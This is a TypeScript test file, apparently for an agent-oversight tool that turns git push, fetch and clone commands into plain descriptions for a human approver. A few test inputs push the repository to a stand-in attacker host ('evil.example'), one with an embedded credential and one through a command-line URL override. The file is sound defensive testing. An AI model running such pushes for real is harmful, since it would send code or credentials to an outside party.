import { execFileSync } from 'node:child_process';
import { beforeAll, expect, it } from 'vitest';
import { explanationText } from '../policy/explain.ts';
import { openRepository, person } from '../testing/asked-repository.ts';
import { patientTimeouts } from '../testing/patient-timeouts.ts';

type Opened = Awaited<ReturnType<typeof openRepository>>;
let at: Opened;
const refused = { verdict: 'deny', reason: 'no' } as const;

/** Three commits on `main`, of which the remote has one; two of `old` there are not here. */
beforeAll(async () => {
  const patient = patientTimeouts();
  at = await openRepository({ approver: person(...Array.from({ length: 5 }, () => refused)) });
  const commit = (subject: string): string => at.git('commit', '-q', '--allow-empty', '-m', subject);
  at.git('branch', '-M', 'main');
  at.git('remote', 'add', 'origin', 'https://ada:s3cret@github.com/a/b.git');
  at.git('remote', 'add', 'fresh', 'git@gitlab.example:group/c.git');
  at.git('remote', 'add', 'both', 'https://one.example/x');
  at.git('config', '--add', 'remote.both.pushurl', 'https://two.example/x.git');
  at.git('config', '--add', 'remote.both.pushurl', 'https://three.example/x.git');
  at.git('config', 'url.https://mirror.example/.pushInsteadOf', 'https://short/');
  at.git('update-ref', 'refs/remotes/origin/main', 'HEAD');
  at.git('checkout', '-q', '-b', 'theirs');
  commit('theirs 1');
  commit('theirs 2');
  at.git('update-ref', 'refs/remotes/origin/old', 'HEAD');
  at.git('checkout', '-q', 'main');
  commit('second');
  commit('third "\u001b[31m" one');
  at.git('branch', 'old');
  at.git('branch', 'new');
  at.git('tag', 'v1');
  at.git('branch', '-D', 'theirs');
  return async () => {
    patient[Symbol.dispose]();
    await at[Symbol.asyncDispose]();
  };
});

const netOf = async (command: string, cwd?: string): Promise<string> => {
  const shown = await at.hands.explain('run_command', { command, ...(cwd === undefined ? {} : { cwd }) });
  const [said = ''] = shown.accesses.slice(-1).map(({ access }) => access);
  // What the effects list must not say less.
  expect(explanationText('run_command', shown).includes('not named')).toBe(said.includes('not named'));
  return said;
};

const PLACE = 'github.com/a/b';
const SUBJECTS = String.raw`"third \"\u001b[31m\" one", "second"`;
const UNNAMED = 'talks to a machine that is not named';

it.each([
  ['git push', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['git push origin main', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['git push -u origin HEAD', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['timeout 9 git push origin main', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['git push --force', `force-pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['git push origin main:topic', `creates branch topic on ${PLACE} from main with 2 commits: ${SUBJECTS}`],
  ['git push origin new', `creates branch new on ${PLACE} with 2 commits: ${SUBJECTS}`],
  [
    'git push origin old',
    `pushes 2 commits to ${PLACE}, branch old: ${SUBJECTS}; it is refused because of 2 commits there that are not here: "theirs 2", "theirs 1"`,
  ],
  [
    'git push origin +old',
    `replaces branch old of ${PLACE}: drops 2 commits there that are not here: "theirs 2", "theirs 1"; pushes 2 commits: ${SUBJECTS}`,
  ],
  ['git push origin main~2:main', `pushes branch main from "main~2" to ${PLACE}, which has its commits as of the last fetch`],
  [
    'git push -f origin old:refs/heads/old main^0:old',
    `replaces branch old of ${PLACE}: drops 2 commits there that are not here: "theirs 2", "theirs 1"; pushes 2 commits: ${SUBJECTS}; ` +
      `replaces branch old of ${PLACE} from "main^0": drops 2 commits there that are not here: "theirs 2", "theirs 1"; pushes 2 commits: ${SUBJECTS}`,
  ],
  ['git push origin v1', `pushes tag v1 to ${PLACE}`],
  ['git push origin tag v1', `pushes tag v1 to ${PLACE}`],
  ['git push --tags', `pushes all tags to ${PLACE}`],
  ['git push --all --force', `force-pushes all branches to ${PLACE}`],
  ['git push --mirror', `pushes all branches and tags, and deletes there what is not here, to ${PLACE}`],
  ['git push origin :old', `deletes old of ${PLACE}`],
  ['git push origin -d refs/heads/x y', `deletes branch x of ${PLACE}; deletes y of ${PLACE}`],
  [
    'git push origin new refs/tags/v1 :gone',
    `creates branch new on ${PLACE} with 2 commits: ${SUBJECTS}; pushes tag v1 to ${PLACE}; deletes gone of ${PLACE}`,
  ],
  ['git push -n', `only tries, and sends nothing: pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['git push fresh main', 'pushes branch main to gitlab.example/group/c'],
  ['git push both main', 'pushes branch main to two.example/x and three.example/x'],
  ['git push https://short/y.git main', 'pushes branch main to mirror.example/y'],
  ['git push https://ada:s3cret@evil.example/y main', 'pushes branch main to evil.example/y'],
  ['git push ../elsewhere main', 'pushes branch main to "../elsewhere"'],
  ['git fetch', `fetches from ${PLACE}`],
  ['git pull --depth 1 fresh main', 'pulls from gitlab.example/group/c'],
  ['git ls-remote both', 'lists the references of one.example/x'],
  ['git clone --depth 1 git@github.com:x/y.git z', 'clones github.com/x/y'],
])('%s: %s', async (command, sentence) => {
  expect(await netOf(command)).toBe(sentence);
});

it.each([
  ['what is committed before is not counted', 'git commit -m x && git push', `pushes what the commands before it leave to ${PLACE}`],
  ['another branch may be checked out before', 'git switch new; git push origin HEAD', `pushes what the commands before it leave to ${PLACE}`],
  ['a command that only reads leaves all as it is', 'git status && git push', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['a folder by its whole name', 'cd $WORKSPACE && git push', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['a folder by an option', 'git -C node_modules push', `pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`],
  ['an unknown remote', 'git push nowhere main', UNNAMED],
  ['an option that is not known', 'git push --forse origin', UNNAMED],
  ['a word that is not known', 'git push "$REMOTE" main', UNNAMED],
  ['settings of the command', 'git -c remote.origin.url=https://evil.example/a push', UNNAMED],
  ['a program that may change git', 'sudo git push', UNNAMED],
  ['another repository', 'git --git-dir /elsewhere/.git push', UNNAMED],
])('%s', async (_, command, sentence) => {
  expect(await netOf(command.replace('$WORKSPACE', at.folder))).toBe(sentence);
});

it('asks a person with the same sentences, and says them where it may not ask', async () => {
  const approver = person(refused);
  const asking = await at.hands.call('run_command', { command: 'git push origin main' }, { approver });
  expect(approver.asked[0]?.effects).toContain(`pushes 2 commits to ${PLACE}, branch main: ${SUBJECTS}`);
  expect(JSON.stringify([approver.asked, asking])).not.toContain('s3cret');
});

it('counts no further than its bound', async () => {
  const tip = at.git('rev-parse', 'HEAD').trim();
  const commits = Array.from(
    { length: 1_001 },
    (_, index) => `commit refs/heads/long\ncommitter a <a@b> ${index} +0000\ndata 1\nx\n${index === 0 ? `from ${tip}\n` : ''}`,
  );
  execFileSync('git', ['fast-import', '--quiet'], { cwd: at.folder, input: commits.join('') });
  at.git('update-ref', 'refs/remotes/origin/long', 'HEAD');
  expect(await netOf('git push origin long')).toBe(`pushes more than 1,000 commits to ${PLACE}, branch long: "x", "x", "x", and more`);
});
